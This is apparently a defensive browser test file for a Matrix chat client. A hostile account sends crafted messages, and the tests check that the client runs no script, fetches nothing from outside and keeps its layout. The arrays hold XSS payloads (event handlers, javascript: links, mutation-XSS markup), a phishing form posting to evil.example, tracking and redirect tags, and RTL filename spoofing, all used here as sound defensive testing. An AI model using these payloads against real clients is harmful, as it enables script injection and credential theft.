// Events that somebody made to do harm: whatever they hold, nothing runs, nothing leaves the server, nothing breaks.

import assert from "node:assert/strict";
import { before, describe, test } from "node:test";
import { World } from "./lib/world.mjs";

const world = World.forTests();

const EVIL = "https://evil.example";
const RTL = "\u202e";

/** Formatted bodies that a browser would act upon if they reached it as they are. */
const MARKUP = [
  `<script>window.__pwned = 1</script>`,
  `<img src=x onerror="window.__pwned = 2">`,
  `<svg onload="window.__pwned = 3"><script>window.__pwned = 4</script></svg>`,
  `<a href="javascript:window.__pwned=5">press</a>`,
  `<a href="data:text/html,<script>parent.__pwned=6</script>">press</a>`,
  `<iframe srcdoc="<script>parent.__pwned=7</script>"></iframe>`,
  `<math><mtext></table><mglyph><style><img src=x onerror="window.__pwned=8"></style></mglyph></mtext></math>`,
  `<img src="${EVIL}/pixel.gif">`,
  `<p style="position:fixed;inset:0;background:url(${EVIL}/bg.png)" class="evil" id="root">fixed</p>`,
  `<form action="${EVIL}/steal"><input name="password"><button>Sign in again</button></form>`,
  `<link rel="stylesheet" href="${EVIL}/x.css"><base href="${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<video src="${EVIL}/v.mp4" autoplay></video><audio src="${EVIL}/a.mp3" autoplay></audio>`,
  `<object data="${EVIL}/o"></object><embed src="${EVIL}/e">`,
  `<mx-reply><blockquote>what was never said</blockquote></mx-reply>answer`,
  `<span data-mx-color="#${"f".repeat(10_000)}" data-mx-bg-color="red;background:url(${EVIL}/c)">coloured</span>`,
  `<details open ontoggle="window.__pwned=9"><summary>more</summary>less</details>`,
  `${"<blockquote>".repeat(150)}deep${"</blockquote>".repeat(150)}`,
  `<code class="language-constructor">x</code><pre><code class="language-__proto__">y</code></pre>`,
  `<table background="${EVIL}/t.png"><tr><td onmouseover="window.__pwned=10">cell</td></tr></table>`,
];

/** Contents that are not what their types promise. */
const CONTENTS = [
  { msgtype: "m.text", body: "x".repeat(10_000) },
  { msgtype: "m.text", body: `${RTL}txt.exe` },
  { msgtype: "m.text", body: { not: "text" } },
  { msgtype: "m.text" },
  { msgtype: 7, body: null },
  {},
  { msgtype: "m.file", body: `invoice${RTL}fdp.exe`, url: "mxc://nordlicht.example/none" },
  { msgtype: "m.file", body: "far away", url: `${EVIL}/file` },
  {
    msgtype: "m.image",
    body: "huge",
    url: "mxc://nordlicht.example/no",
    info: { w: 9e15, h: -5, size: "big" },
  },
  { msgtype: "m.image", body: "svg", url: "mxc://nordlicht.example/no", info: { mimetype: "image/svg+xml" } },
  {
    msgtype: "m.image",
    body: "key",
    file: { url: "mxc://nordlicht.example/no", key: {}, iv: 1, hashes: [] },
  },
  {
    msgtype: "m.video",
    body: "v",
    url: "mxc://nordlicht.example/no",
    info: { duration: "long", w: "1", h: null },
  },
  {
    msgtype: "m.audio",
    body: "a",
    url: "mxc://nordlicht.example/no",
    "org.matrix.msc1767.audio": { waveform: "x" },
  },
  { msgtype: "m.location", body: "here", geo_uri: "javascript:window.__pwned=11" },
  { msgtype: "m.text", body: "mentions", "m.mentions": { user_ids: [7, {}, "nobody"], room: "yes" } },
  { msgtype: "m.text", body: "reply", "m.relates_to": { "m.in_reply_to": { event_id: 7 } } },
  { msgtype: "m.text", body: "reply to none", "m.relates_to": { "m.in_reply_to": { event_id: "$none" } } },
  { msgtype: "m.emote", body: "acts", format: "org.matrix.custom.html", formatted_body: 7 },
  { msgtype: "m.custom.thing", body: "something of another client" },
];

describe("hostile events", () => {
  let anna;
  let mallory;
  let roomId;
  const requests = [];

  before(async () => {
    [anna, mallory] = [await world.person("anna"), await world.account("mallory")];
    const other = { userId: mallory.userId, call: as(mallory) };
    const name = `${RTL}${"mallory ".repeat(1_000)}<b>x</b>`;
    await as(mallory)("PUT", `profile/${encodeURIComponent(mallory.userId)}/displayname`, {
      displayname: name.slice(0, 255),
    });
    roomId = await anna.createRoom({ name: "hostile", members: [other] });
    await anna.page.addInitScript(() => {
      window.__violations = [];
      document.addEventListener("securitypolicyviolation", (event) => {
        window.__violations.push(`${event.violatedDirective} ${event.blockedURI}`);
      });
    });
    anna.page.on("request", (request) => requests.push(request.url()));
    anna.page.on("dialog", (dialog) => {
      requests.push(`dialog: ${dialog.message()}`);
      return dialog.dismiss();
    });
    for (const [index, formatted] of MARKUP.entries()) {
      await send({
        msgtype: "m.text",
        body: `markup ${index}`,
        format: "org.matrix.custom.html",
        formatted_body: `<p>markup ${index}</p>${formatted}`,
      });
    }
    for (const content of CONTENTS) await send(content);
    const liked = await send({ msgtype: "m.text", body: "liked too much" });
    for (const key of ["y".repeat(5_000), `${RTL}evil`, "<img src=x onerror=alert(1)>"]) {
      await send({ "m.relates_to": { rel_type: "m.annotation", event_id: liked, key } }, "m.reaction");
    }
    await send({ "m.relates_to": { rel_type: "m.annotation", event_id: liked } }, "m.reaction");
    await send({ body: { x: 1 } }, "org.example.unknown");
    await send(
      { "org.matrix.msc3381.poll.start": { question: 7, answers: "none" } },
      "org.matrix.msc3381.poll.start",
    );
    await send({ "m.new_content": 7, "m.relates_to": { rel_type: "m.replace", event_id: liked } });
    await send({ msgtype: "m.text", body: "the last of them" });
    await anna.open(roomId);
    await anna.message("the last of them").waitFor();
  });

  test("every one of them can be scrolled past, and nothing ran or was fetched", async () => {
    const seen = new Set();
    const log = anna.page.getByRole("log", { name: "Messages", exact: true });
    await anna.page.waitForFunction(
      () => {
        const element = document.querySelector('[role="log"][aria-label="Messages"]');
        element.scrollBy(0, -element.clientHeight * 0.7);
        const above = element.scrollHeight - element.clientHeight + element.scrollTop;
        return above < 2 && element.textContent.includes("This is where hostile begins");
      },
      undefined,
      { polling: 100 },
    );
    for (;;) {
      for (const text of await log.getByText(/^markup \d+$/).allTextContents()) seen.add(text);
      const isAtEnd = await log.evaluate((element) => {
        const before = element.scrollTop;
        element.scrollBy(0, element.clientHeight * 0.7);
        return element.scrollTop === before;
      });
      if (isAtEnd) break;
      await anna.page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
    }
    assert.ok(seen.size >= MARKUP.length - 2, `only ${seen.size} were shown`);
    assert.equal(await anna.page.evaluate(() => window.__pwned), undefined);
    assert.deepEqual(await anna.page.evaluate(() => window.__violations), []);
    const outside = requests.filter((url) => !url.startsWith(world.origin) && !url.startsWith("blob:"));
    assert.deepEqual(outside, []);
  });

  test("no link leads to a script, and nothing of a message has a style, class or id of its own", async () => {
    const log = anna.page.getByRole("log", { name: "Messages", exact: true });
    const addresses = await log.locator("a").evaluateAll((links) => links.map((link) => link.protocol));
    for (const protocol of addresses) assert.match(protocol, /^(https?|mailto|magnet|ftp):$/);
    assert.equal(
      await log.locator("form, input, iframe, object, embed, script, style, link, base").count(),
      0,
    );
    assert.equal(await anna.page.locator("#root").count(), 1);
    assert.equal(await anna.page.locator(".evil").count(), 0);
  });

  test("a name of a thousand letters stays in its line, and so does a reaction", async () => {
    const row = anna.message("the last of them").first();
    const width = await row.evaluate((element) => element.scrollWidth - element.clientWidth);
    assert.equal(width, 0);
    const page = await anna.page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    assert.ok(page <= 0);
  });

  test("the page had nothing to complain of", () => assert.deepEqual(anna.complaints, []));

  const as = (account) => (method, path, body) =>
    world.homeserver.call(method, `/_matrix/client/v3/${path}`, { account, body });
  let sent = 0;
  const send = async (content, type = "m.room.message") => {
    const path = `rooms/${encodeURIComponent(roomId)}/send/${type}/hostile-${sent++}`;
    return (await as(mallory)("PUT", path, content)).event_id;
  };
});
